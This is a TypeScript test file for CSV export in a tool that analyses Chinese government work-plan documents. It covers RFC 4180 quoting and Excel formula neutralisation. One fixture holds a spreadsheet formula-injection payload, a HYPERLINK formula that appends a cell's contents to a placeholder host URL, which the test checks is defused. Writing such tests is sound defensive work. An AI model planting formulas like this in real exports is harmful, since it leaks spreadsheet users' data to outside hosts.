import { strict as assert } from 'assert';
import { DocumentAnalysis } from '../../server/src/analysis/analysis';
import { defaultConfig } from '../../server/src/config/config';
import { parseDocument } from '../../server/src/document/parse';
import { BY_UNIT_HEADER, csvField, TASK_TABLE_HEADER, taskTableCsv, tasksByUnitCsv, toCsv } from '../../server/src/report/csv';
import { unitsLabel } from '../../server/src/report/tasks';
import { readFixture } from '../helpers/fixtures';

/** A strict RFC 4180 reader (CRLF rows, quoted fields), to read our output back. */
function readCsv(text: string): string[][] {
  assert.ok(text.startsWith('\ufeff'), 'BOM');
  const s = text.slice(1);
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (s[i] === '"') {
      i++;
      for (;;) {
        const q = s.indexOf('"', i);
        assert.ok(q >= 0, 'unterminated quote');
        field += s.slice(i, q);
        i = q + 1;
        if (s[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    } else {
      while (i < s.length && s[i] !== ',' && s[i] !== '\r' && s[i] !== '\n') {
        assert.notEqual(s[i], '"', 'bare quote in an unquoted field');
        field += s[i++];
      }
    }
    row.push(field);
    if (s[i] === ',') {
      i++;
      continue;
    }
    assert.equal(s.slice(i, i + 2), '\r\n', `row end at ${i}`);
    i += 2;
    rows.push(row);
    row = [];
    if (i >= s.length) return rows;
  }
}

function analyse(text: string): { doc: ReturnType<typeof parseDocument>; analysis: DocumentAnalysis } {
  const doc = parseDocument(text);
  return { doc, analysis: new DocumentAnalysis(doc, defaultConfig()) };
}

describe('CSV', () => {
  it('quotes fields with comma, quote, CR or LF and doubles quotes (RFC 4180)', () => {
    assert.equal(csvField('区财政局'), '区财政局');
    assert.equal(csvField('甲，乙'), '甲，乙');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('推进"互联网+"'), '"推进""互联网+"""');
    assert.equal(csvField('第一行\n第二行'), '"第一行\n第二行"');
    assert.equal(csvField('a\rb'), '"a\rb"');
    assert.equal(csvField(12), '12');
    assert.equal(csvField(null), '');
    assert.equal(csvField(undefined), '');
    assert.equal(csvField(''), '');
  });

  it('writes a BOM and ends every row with CRLF', () => {
    assert.equal(toCsv([['a', 'b'], ['1', 'x,y']]), '\ufeffa,b\r\n1,"x,y"\r\n');
    assert.equal(toCsv([]), '\ufeff');
    const tricky = [['h1', 'h2', 'h3'], ['"', ',\r\n', ' 空格 '], ['', '', '']];
    assert.deepEqual(readCsv(toCsv(tricky)), tricky);
  });

  it('labels units: names joined with 、, roles written when they differ', () => {
    assert.equal(unitsLabel([]), '');
    assert.equal(unitsLabel([{ name: '甲局', role: 'responsible' }, { name: '乙局', role: 'responsible' }]), '甲局、乙局');
    assert.equal(unitsLabel([{ name: '甲局', role: 'lead' }, { name: '乙局', role: 'support' }, { name: '丙局', role: 'support' }]), '甲局牵头，乙局、丙局配合');
    assert.equal(unitsLabel([{ name: '甲局', role: 'lead' }, { name: '乙局', role: 'responsible' }], ','), '甲局牵头,乙局负责');
  });

  it('task table: header, one row per task, reads back', () => {
    const { doc, analysis } = analyse(readFixture('examples/inline-units.txt'));
    const rows = readCsv(taskTableCsv(doc, analysis));
    assert.deepEqual(rows[0], TASK_TABLE_HEADER);
    assert.deepEqual(rows[0], ['序号', '任务', '责任单位', '时间节点', '行号']);
    assert.equal(rows.length, 1 + analysis.tasks.length);
    assert.deepEqual(rows[2], ['2', '及时发布重点建设项目目录。', '市发展改革委牵头，各区政府负责', '', '15']);
    assert.deepEqual(rows[5], ['5', '按月公开低保人数、资金支出情况。', '市民政局', '全年', '18']);
    assert.deepEqual(rows.slice(1).map((r) => r[0]), ['1', '2', '3', '4', '5', '6', '7', '8']);
  });

  it('by unit: header, one row per unit and task, roles, tasks without a unit last', () => {
    const text = ['2026年某区政务公开工作要点', '一、主要任务', '(一)做好公开。按月公开数据。(区甲局牵头,区乙局配合)', '(二)做好解读。按季度解读政策。', ''].join('\n');
    const { doc, analysis } = analyse(text);
    const rows = readCsv(tasksByUnitCsv(doc, analysis));
    assert.deepEqual(rows, [
      BY_UNIT_HEADER,
      ['区甲局', '牵头', '', '3', '按月公开数据。'],
      ['区乙局', '配合', '', '3', '按月公开数据。'],
      ['', '', '', '4', '按季度解读政策。'],
    ]);
    assert.deepEqual(BY_UNIT_HEADER, ['责任单位', '角色', '时间节点', '行号', '任务']);
  });

  it('keeps every corpus task on one CSV row', () => {
    for (const name of ['corpus/000_8af76b9c2bc005bb.txt', 'corpus/003_b70125ba7a548c2f.txt', 'custom/pdf-wrapped-circled.txt']) {
      const { doc, analysis } = analyse(readFixture(name));
      const rows = readCsv(taskTableCsv(doc, analysis));
      assert.equal(rows.length, 1 + analysis.tasks.length, name);
      for (const r of rows) {
        assert.equal(r.length, 5, name);
        assert.doesNotMatch(r[1], /[\r\n]/, name);
      }
    }
  });

  it('neutralises cells Excel would run as formulas (= + - @, tab, CR): a leading apostrophe', () => {
    assert.equal(csvField('=1+1'), "'=1+1");
    assert.equal(csvField('+86 10'), "'+86 10");
    assert.equal(csvField('-2+3'), "'-2+3");
    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvField('\t=1'), "'\t=1");
    assert.equal(csvField('\r=1'), '"\'\r=1"');
    assert.equal(csvField('=A1,B1'), '"\'=A1,B1"');
    // Numbers are numbers, and text with these marks inside is left alone.
    assert.equal(csvField(-1), '-1');
    assert.equal(csvField('区财政局=牵头'), '区财政局=牵头');
    const text =
      '2026年某区政务公开工作要点\n一、强化重点领域信息公开\n' +
      '（一）=HYPERLINK("http://x.example/?"&A1,"点击")公开预决算。（责任单位：@SUM(1+1)；完成时限：-2+3）\n' +
      '（二）+1+1做好教育信息公开。（责任单位：区教育局；完成时限：全年）\n';
    const { doc, analysis } = analyse(text);
    assert.deepEqual(readCsv(taskTableCsv(doc, analysis)).slice(1), [
      ['1', '\'=HYPERLINK("http://x.example/?"&A1,"点击")公开预决算。', "'@SUM(1+1)", "'-2+3", '3'],
      ['2', "'+1+1做好教育信息公开。", '区教育局', '全年', '4'],
    ]);
    const byUnit = readCsv(tasksByUnitCsv(doc, analysis)).slice(1);
    assert.ok(byUnit.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell))), JSON.stringify(byUnit));
  });
});
